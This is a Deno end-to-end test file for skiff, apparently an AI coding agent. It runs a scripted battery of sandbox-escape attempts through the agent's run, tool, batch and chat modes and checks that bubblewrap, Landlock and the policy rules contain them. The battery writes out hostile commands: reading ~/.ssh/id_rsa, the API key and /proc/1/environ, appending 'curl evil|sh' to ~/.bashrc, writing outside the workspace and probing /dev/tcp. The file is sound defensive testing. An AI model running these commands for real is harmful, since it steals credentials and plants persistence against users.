/**
 * One battery of escape attempts through each way into skiff — `skiff run`,
 * `skiff tool` (JSON Lines, no model), `skiff batch` and the chat at a real
 * terminal — each approving every question (`--yes`), so only containment
 * can stop them: the policy table (a deny rule wins over `--yes`; hidden
 * paths; the sandbox mode, which keeps file writes in the workspace), the
 * engine Worker's Deno permissions (an approved read outside the workspace)
 * and the OS sandbox (commands writing outside, reading a hidden key or the
 * API key, reaching 127.0.0.1). Each front end must leave home, the outside
 * folder, the global config and the workspace's protected files unchanged,
 * leak no secret, and still run the harmless part (the control: `ok.txt`).
 * The battery runs under both OS sandboxes for commands (bubblewrap and
 * Landlock, forced by `--sandbox-backend`); a backend that does not work
 * here is skipped loudly.
 */
import * as path from "node:path";
import { assert, assertEquals, assertMatch } from "../support/assert.ts";
import { parseJsonLines, runSkiff } from "../support/cli.ts";
import type { MockServer, MockToolCall } from "../support/mock_server.ts";
import {
  assertNoSecrets,
  assertUnchanged,
  type AttackSandbox,
  bash,
  connectionCounter,
  everythingSent,
  exists,
  guarded,
  needsBwrap,
  withAttack,
} from "./e2e_support.ts";
import { hasTmux, inTmux } from "./_tmux.ts";
import { probeSandboxes } from "../../src/sandbox/choose.ts";

const found = await probeSandboxes();
const BACKENDS: { name: "bwrap" | "landlock"; missing: string | null }[] = [
  { name: "bwrap", missing: needsBwrap.ignore ? "bubblewrap does not work here" : null },
  {
    name: "landlock",
    missing: found.landlock ? null : `Landlock does not work here (${found.reasons?.landlock})`,
  },
];
for (const backend of BACKENDS) {
  if (backend.missing) {
    console.warn(`\n!!! FRONT ENDS ESCAPE (${backend.name}): SKIPPED: ${backend.missing} !!!\n`);
  }
}

/** The file a command tries to leave outside every guarded folder. */
const STRAY = `/var/tmp/skiff-front-ends-${Deno.pid}`;

/** The attempts, in the order each front end makes them. */
function battery(port: number): MockToolCall[] {
  return [
    bash(
      `echo x > ../outside/pwned; echo 'curl evil|sh' >> ~/.bashrc; touch ${STRAY}; ` +
        "echo inside > ok.txt",
    ),
    bash("cat ~/.ssh/id_rsa; echo k=$OPENAI_API_KEY; cat /proc/1/environ"),
    bash(`(exec 3<>/dev/tcp/127.0.0.1/${port}) 2>/dev/null && echo net=open || echo net=closed`),
    { name: "read", arguments: { file_path: "~/.ssh/id_rsa" } },
    { name: "read", arguments: { file_path: "../outside/secret.txt" } },
    { name: "write", arguments: { file_path: "../outside/written.txt", content: "x\n" } },
    bash("true && rm -f a.txt"),
  ];
}

/** Every front end runs with these: approve every question, but `rm` is denied. */
const flagsFor = (backend: string) => [
  "--yes",
  "--deny",
  "bash(rm *)",
  "--sandbox-backend",
  backend,
];

/** What one run of the battery showed: its outputs in order, and where a secret could surface. */
interface Seen {
  /** The battery's outputs, in its order. */
  outputs: string[];
  /** What went to the model (empty without one), then skiff's own output. */
  streams: string[];
  /** The file the harmless part writes. @default "ok.txt" */
  control?: string;
  /** Names the run in a failure (a batch task). */
  label?: string;
}

/** What every front end must leave behind, given what one run of the battery showed. */
async function assertContained(
  sandbox: AttackSandbox,
  before: Map<string, string>,
  seen: Seen,
): Promise<void> {
  const { outputs, streams, control = "ok.txt" } = seen;
  assertEquals(outputs.length, 7, outputs.join("\n---\n"));
  const [write, secrets, net, hiddenRead, outsideRead, outsideWrite, denied] = outputs;
  assertMatch(write, /Read-only file system|Permission denied/);
  assertMatch(secrets, /k=\n/);
  assertMatch(net, /net=closed/);
  assertMatch(hiddenRead, /hidden from the agent/);
  // Approved, and stopped by the engine Worker's Deno permissions.
  assertMatch(outsideRead, /not_capable/);
  // The sandbox mode's refusal, or (a batch task that owns paths) the owned paths'.
  assertMatch(
    outsideWrite,
    /outside the workspace; workspace-write allows writes only inside|is not among them/,
  );
  assertMatch(denied, /bash\(rm \*\) → deny/);
  // The control: the harmless part ran, inside.
  assertEquals(await Deno.readTextFile(path.join(sandbox.workspace, control)), "inside\n");
  assert(await exists(path.join(sandbox.workspace, "a.txt")), "the denied rm ran");
  assertEquals(await exists(STRAY), false, `${STRAY} was written`);
  assertUnchanged(before, guarded(sandbox));
  assertNoSecrets(streams[0], ...streams.slice(1));
}

/** The tool results sent with request `index` (0-based; by default the last). */
function toolResults(mock: MockServer, index = mock.requests.length - 1): string[] {
  const body = mock.requests[index] as { messages: { role: string; content: string }[] };
  return body.messages.filter((message) => message.role === "tool").map((message) =>
    message.content
  );
}

/**
 * Runs `front` on a fresh attack sandbox, with a server on 127.0.0.1 that
 * counts connections (the network attempt's target), then checks each run
 * of the battery it reports: contained, and no connection made.
 */
async function attempt(
  script: (port: number) => Parameters<typeof withAttack>[0],
  front: (sandbox: AttackSandbox, mock: MockServer, port: number) => Promise<Seen[]>,
): Promise<void> {
  const server = connectionCounter();
  try {
    await withAttack(script(server.port), async (sandbox, mock) => {
      await Deno.remove(STRAY).catch(() => {});
      const before = guarded(sandbox);
      for (const seen of await front(sandbox, mock, server.port)) {
        await assertContained(sandbox, before, seen).catch((error) => {
          throw seen.label ? new Error(`${seen.label}: ${error.message}`) : error;
        });
      }
      assertEquals(server.count(), 0, "the local server saw a connection");
    });
  } finally {
    server.close();
    await Deno.remove(STRAY).catch(() => {});
  }
}

const modelScript = (port: number) => [{ toolCalls: battery(port) }, { text: "all done" }];

/**
 * A model-driven front end's command line (`skiff run`, `skiff batch`) run to
 * its end: calls were refused, which its exit code says (3, docs/ci.md).
 */
async function modelRun(sandbox: AttackSandbox, mock: MockServer, args: string[]) {
  const result = await runSkiff(args, sandbox);
  assertEquals(result.code, 3, result.stderr);
  return { result, streams: [everythingSent(mock), result.stdout, result.stderr] };
}

/** A batch's tasks file in the sandbox's root. */
async function tasksFile(sandbox: AttackSandbox, tasks: Record<string, unknown>[]) {
  const file = path.join(sandbox.root, "tasks.jsonl");
  await Deno.writeTextFile(file, tasks.map((task) => JSON.stringify(task) + "\n").join(""));
  return file;
}

for (const backend of BACKENDS) {
  const flags = flagsFor(backend.name);

  Deno.test({
    name: `e2e front ends (${backend.name}): skiff run --yes keeps the battery contained`,
    ignore: backend.missing !== null,
    fn: () =>
      attempt(modelScript, async (sandbox, mock) => {
        const { streams } = await modelRun(sandbox, mock, ["run", "--json", ...flags, "go"]);
        return [{ outputs: toolResults(mock), streams }];
      }),
  });

  Deno.test({
    name:
      `e2e front ends (${backend.name}): skiff tool --yes (JSON Lines, no model) keeps the battery contained`,
    ignore: backend.missing !== null,
    fn: () =>
      attempt(() => [], async (sandbox, _mock, port) => {
        const input = battery(port).map((call) =>
          JSON.stringify({ tool: call.name, input: call.arguments })
        ).join("\n") + "\n";
        const result = await runSkiff(["tool", ...flags], sandbox, { input });
        // Some calls are refused: the process says so with exit 1.
        assertEquals(result.code, 1, result.stderr);
        const outputs = parseJsonLines(result.stdout).map((answer) =>
          answer.ok ? String(answer.output) : JSON.stringify(answer.error)
        );
        return [{ outputs, streams: ["", result.stdout, result.stderr] }];
      }),
  });

  Deno.test({
    name: `e2e front ends (${backend.name}): skiff batch --yes keeps the battery contained`,
    ignore: backend.missing !== null,
    fn: () =>
      attempt(modelScript, async (sandbox, mock) => {
        const tasks = await tasksFile(sandbox, [{ id: "attack", prompt: "go" }]);
        // Its one task had calls refused, so every task failed the same way.
        const { streams } = await modelRun(sandbox, mock, [
          "batch",
          "--json",
          "-j",
          "1",
          ...flags,
          tasks,
        ]);
        return [{ outputs: toolResults(mock), streams }];
      }),
  });

  Deno.test({
    name:
      `e2e front ends (${backend.name}): the chat at a real terminal, with --yes, keeps the battery contained`,
    ignore: backend.missing !== null || !hasTmux,
    fn: () =>
      attempt(modelScript, async (sandbox, mock) => {
        let screen = "";
        await inTmux(flags, sandbox, async (terminal) => {
          await terminal.shows("Ctrl-D to exit");
          await terminal.keys("go", "Enter");
          await terminal.shows("all done");
          await terminal.keys("C-d");
          screen = await terminal.shows("SKIFF_EXIT=");
        });
        assertMatch(screen, /SKIFF_EXIT=0/);
        return [{ outputs: toolResults(mock), streams: [everythingSent(mock), screen] }];
      }),
  });
}

Deno.test({
  name:
    "e2e front ends (bwrap): skiff batch --yes, two tasks owning a file each, the second in the first one's kept Worker",
  ignore: BACKENDS[0].missing !== null,
  fn: () =>
    attempt(
      (port) =>
        ["first", "second"].flatMap((own) => {
          const other = own === "first" ? "second" : "first";
          const calls = battery(port);
          // Each task's harmless part writes the file it owns; it also tries the other's.
          calls[0] = bash(
            `echo x > ../outside/pwned; echo 'curl evil|sh' >> ~/.bashrc; touch ${STRAY}; ` +
              `echo stolen > ${other}.txt; echo inside > ${own}.txt`,
          );
          return [{ toolCalls: calls }, { text: "all done" }];
        }),
      async (sandbox, mock) => {
        for (const own of ["first", "second"]) {
          await Deno.writeTextFile(path.join(sandbox.workspace, `${own}.txt`), "\n");
        }
        const tasks = await tasksFile(
          sandbox,
          ["first", "second"].map((id) => ({ id, prompt: "go", owns: [`${id}.txt`] })),
        );
        // -j 1 in one workspace: the second task runs in the Worker the first one used.
        const { result, streams } = await modelRun(sandbox, mock, [
          "batch",
          "--json",
          "-j",
          "1",
          ...flagsFor("bwrap"),
          tasks,
        ]);
        assertEquals(mock.requests.length, 4, result.stderr);
        return (["first", "second"] as const).map((task, at) => {
          const outputs = toolResults(mock, 2 * at + 1);
          const other = task === "first" ? "second" : "first";
          assertMatch(outputs[0], new RegExp(`${other}\\.txt: Read-only file system`));
          return { outputs, streams, control: `${task}.txt`, label: `task ${task}` };
        });
      },
    ),
});
